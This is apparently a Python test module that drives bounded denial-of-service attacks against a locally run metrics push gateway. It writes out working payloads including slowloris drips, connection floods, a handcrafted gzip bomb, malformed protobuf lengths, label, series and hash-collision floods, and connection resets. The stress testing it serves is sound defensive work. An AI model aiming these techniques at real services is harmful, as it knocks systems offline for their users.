"""Attacks as disturb.py runs them: generators that are prepared at their first yield and then do a piece of work a yield. Each is
bounded: so many connections, so many groups. Answers are not judged here; tests/hostile does that."""

import os
import random
import select
import socket
import struct
import sys
import time
import zlib

from suite.bodies import gauges_body, group_target, request

MIB = 1 << 20


# What one call into the kernel sends: with PREEMPT_NONE a longer one keeps the load generator from its core.
SEND_BYTES = 4096


def send_all(sock, data):
    for at in range(0, len(data), SEND_BYTES):
        sock.sendall(data[at:at + SEND_BYTES])


def connect(port, room=None):
    sock = socket.socket()
    if room is not None:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, room)
    sock.settimeout(600)
    sock.connect(("127.0.0.1", port))
    return sock


def head(method, target, fields=""):
    return ("%s %s HTTP/1.1\r\nHost: b\r\n%s" % (method, target, fields)).encode()


def dripping(port, first, count):
    """So many connections that have sent `first`, then a byte on each of them, again and again; closed ones are opened anew."""
    def begin():
        sock = connect(port)
        sock.sendall(first)
        return sock

    socks = [begin() for _ in range(count)]
    yield
    while True:
        for index, sock in enumerate(socks):
            try:
                sock.send(b"x")
            except OSError:
                sock.close()
                socks[index] = begin()
            time.sleep(0.001)
            yield


def slow_read(port, count):
    """Scrapes of which nothing is read but a few bytes now and then."""
    def begin():
        sock = connect(port, 4096)
        sock.sendall(request("GET", "/metrics"))
        return sock

    yield
    socks = []
    while True:
        if len(socks) < count:
            socks.append(begin())
        for index, sock in enumerate(socks):
            if select.select([sock], [], [], 0)[0]:
                try:
                    data = sock.recv(64)
                except OSError:
                    data = b""
                if not data:
                    sock.close()
                    socks[index] = begin()
        time.sleep(0.01)
        yield


def idle(port, count):
    """New connections that say nothing, with the oldest of so many closed for each."""
    yield
    socks = []
    while True:
        socks.append(connect(port))
        if len(socks) > count:
            socks.pop(0).close()
        time.sleep(0.001)
        yield


def asking(port, *streams):
    """Each stream on a connection of its own, to the end of its answer, one after the other."""
    yield
    while True:
        for stream in streams:
            with connect(port) as sock:
                try:
                    send_all(sock, stream)
                    sock.recv(4096)
                except OSError:
                    pass
            yield


def endless_body(port):
    """Chunks of comments until the gateway has had enough."""
    chunk = b"8000\r\n" + b"# nothing but comments\n".ljust(0x8000, b"#") + b"\r\n"
    yield
    while True:
        with connect(port) as sock:
            sock.sendall(head("PUT", "/metrics/job/big", "Transfer-Encoding: chunked\r\n\r\n"))
            try:
                while True:
                    send_all(sock, chunk)
                    yield
            except OSError:
                pass


def gzip_bomb():
    packer, block = zlib.compressobj(9, zlib.DEFLATED, -15), b"x" * MIB
    piece = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(256):
        crc = zlib.crc32(block, crc)
    bomb = b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + piece * 256 + b"\x03\0" + struct.pack("<II", crc, 256 * MIB)
    return head("PUT", "/metrics/job/bomb", "Content-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(bomb)) + bomb


PROTOBUF = ("Content-Type: application/vnd.google.protobuf; proto=io.prometheus.client.MetricFamily; encoding=delimited\r\n"
            "Content-Length: %d\r\n\r\n")


def protobuf(body):
    return head("PUT", "/metrics/job/lengths", PROTOBUF % len(body)) + body


def new_groups(port, count):
    """Groups that nobody needs, so many and then the same again."""
    sock = connect(port)
    yield
    while True:
        for first in range(0, count, 50):
            sock.sendall(b"".join(request("PUT", "/metrics/job/flood/number/%d" % number, b"a 1\n") for number in range(first, first + 50)))
            got = 0
            while got < 50:
                got += sock.recv(1 << 16).count(b"HTTP/1.1 ")
            yield


def unread_pipeline(port):
    """Requests whose answers nobody reads, until no more are taken; then anew."""
    data = request("GET", "/-/ready") * 500
    yield
    while True:
        with connect(port, 4096) as sock:
            sock.setblocking(False)
            while select.select([], [sock], [], 0.05)[1]:
                try:
                    sock.send(data)
                except OSError:
                    break
                yield
        yield


def resets(port):
    """Connections that are reset in the middle of a push."""
    rng = random.Random(7)
    stream = request("PUT", group_target(1, "reset"), gauges_body(1, 100))
    yield
    while True:
        sock = connect(port)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        sock.sendall(stream[:rng.randrange(1, len(stream))])
        sock.close()
        yield


def scrape_storm(port, count):
    """Compressed scrapes on so many connections at once."""
    yield
    socks = [connect(port) for _ in range(count)]
    ask = head("GET", "/metrics", "Accept-Encoding: gzip\r\n\r\n")
    for sock in socks:
        sock.sendall(ask)
    while True:
        for sock in select.select(socks, [], [], 1)[0]:
            if sock.recv(1 << 18)[-5:] == b"0\r\n\r\n":
                sock.sendall(ask)
                yield


def colliding_body(count):
    """Values that collide under the standard library's hash; the blocks are those of tests/hostile."""
    sys.path.insert(0, os.path.join(os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__)))), "tests", "hostile"))
    from collisions import colliding  # pylint: disable=import-outside-toplevel
    return b"".join(b'a{l="%s"} 1\n' % value.encode() for value in colliding(count))


def harmless(port, rate):
    """Pushes of S at a planned rate over 16 connections: what good clients cost."""
    socks = [connect(port) for _ in range(16)]
    pushes = [request("POST", group_target(group, "harmless"), gauges_body(group)) for group in range(1, 17)]
    yield
    began, sent = time.monotonic(), 0
    while True:
        due = int((time.monotonic() - began) * float(rate))
        while sent < due:
            socks[sent % 16].sendall(pushes[sent % 16])
            sent += 1
        for sock in select.select(socks, [], [], 0.001)[0]:
            sock.recv(1 << 16)
        yield


ATTACKERS = {
    "slowloris": lambda port: dripping(port, head("POST", "/metrics/job/t", "X-"), 500),
    "slow-body": lambda port: dripping(port, head("POST", "/metrics/job/t", "Content-Length: 8192\r\n\r\n"), 500),
    "slow-read": lambda port: slow_read(port, 100),
    "conn-flood": lambda port: idle(port, 400),
    "header-big": lambda port: asking(port, head("GET", "/-/ready", "X: " + "y" * 70_000)),
    "body-big": endless_body,
    "gzip-bomb": lambda port: asking(port, gzip_bomb()),
    "pb-length": lambda port: asking(port, protobuf(b"\xff\xff\xff\xff\xff\x1fabc"), protobuf(b"\0" * 1_000_000)),
    "labels-bomb": lambda port: asking(port, request("PUT", "/metrics/job/t", (
        "a{%s} 1\n" % ",".join('l%d="v"' % number for number in range(10_000))).encode())),
    "series-bomb": lambda port: new_groups(port, 100_000),
    "hash-flood": lambda port: asking(port, request("PUT", "/metrics/job/hash", colliding_body(8192))),
    "pipeline-flood": unread_pipeline,
    "half-open-kill": resets,
    "path-bomb": lambda port: asking(port, request("POST", "/metrics/job/x" + "".join("/a%d/b" % n for n in range(4000)), b"a 1\n")),
    "scrape-storm": lambda port: scrape_storm(port, 16),
}
